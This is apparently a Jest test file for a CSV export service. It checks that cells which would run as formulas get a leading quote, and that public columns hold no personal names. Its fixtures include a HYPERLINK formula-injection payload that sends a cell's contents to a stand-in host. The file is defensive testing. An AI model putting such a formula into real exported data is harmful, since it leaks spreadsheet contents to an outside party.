import { parse } from 'csv-parse/sync';
import { csvWriter, CSV_COLUMNS, NAME_COLUMNS, PUBLIC_CSV_COLUMNS } from './published-data.service';

/** Writes rows through the exports' CSV writer and reads the text back. */
async function written(columns: string[], rows: Record<string, unknown>[]): Promise<string> {
  const writer = csvWriter(columns);
  let text = '';
  writer.on('data', (chunk: Buffer | string) => (text += chunk.toString()));
  const done = new Promise<void>((resolve, reject) => {
    writer.on('end', resolve);
    writer.on('error', reject);
  });
  for (const row of rows) writer.write(row);
  writer.end();
  await done;
  return text;
}

describe('the published figures CSV (formula escaping)', () => {
  it('writes a text cell that a spreadsheet would run as a formula with a leading single quote', async () => {
    const dangerous = [
      '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
      '+1+2',
      '-2+3',
      '@SUM(A1:A2)',
      '\t=1+1',
      '\r=1+1',
    ];
    const text = await written(
      ['label', 'value'],
      dangerous.map((label) => ({ label, value: 1 })),
    );
    const table: string[][] = parse(text, { relax_quotes: true });
    const [header, ...rows] = table;
    expect(header).toEqual(['label', 'value']);
    expect(rows.map((r) => r[0])).toEqual(dangerous.map((label) => `'${label}`));
    // No cell of the file begins with a formula character any more.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('leaves ordinary text and numbers alone, negative numbers included', async () => {
    const text = await written(
      ['label', 'value'],
      [
        { label: 'Rumah tangga miskin', value: 30 },
        { label: 'Perubahan', value: -4.5 },
        { label: 'a=b', value: 0 },
      ],
    );
    expect(parse(text)).toEqual([
      ['label', 'value'],
      ['Rumah tangga miskin', '30'],
      ['Perubahan', '-4.5'],
      ['a=b', '0'],
    ]);
  });

  it('gives the public no personal-name columns', () => {
    expect(NAME_COLUMNS.every((c) => CSV_COLUMNS.includes(c))).toBe(true);
    expect(PUBLIC_CSV_COLUMNS.some((c) => NAME_COLUMNS.includes(c))).toBe(false);
    expect(PUBLIC_CSV_COLUMNS).toEqual(
      expect.arrayContaining(['producers', 'submitted_by_role', 'verified_by_role']),
    );
  });
});
